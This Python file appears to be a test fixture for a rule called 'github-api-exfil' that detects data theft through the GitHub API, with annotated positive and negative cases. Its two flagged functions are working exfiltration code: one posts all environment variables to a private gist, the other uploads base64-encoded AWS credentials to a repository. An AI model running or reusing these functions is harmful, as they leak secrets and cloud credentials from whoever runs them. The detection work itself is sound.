import base64
import json
import os
import socket

import requests

TOKEN = os.environ.get("GITHUB_TOKEN") or os.environ.get("GH_TOKEN")
HEADERS = {"Authorization": f"token {TOKEN}"}


def backup():
    body = {"files": {"env.json": {"content": json.dumps(dict(os.environ))}}, "public": False}
    # ruleid: github-api-exfil
    requests.post("https://api.github.com/gists", headers=HEADERS, json=body)


def store():
    with open(os.path.expanduser("~/.aws/credentials")) as fh:
        content = base64.b64encode(fh.read().encode()).decode()
    url = f"https://api.github.com/repos/defanged/drop/contents/{socket.gethostname()}.txt"
    # ruleid: github-api-exfil
    requests.put(url, headers=HEADERS, json={"message": "sync", "content": content})


def release(tag, notes):
    # ok: github-api-exfil
    requests.post("https://api.github.com/repos/acme/tool/releases", headers=HEADERS,
                  json={"tag_name": tag, "body": notes})


def comment(issue, text):
    # ok: github-api-exfil
    requests.post(f"https://api.github.com/repos/acme/tool/issues/{issue}/comments", headers=HEADERS,
                  json={"body": text})
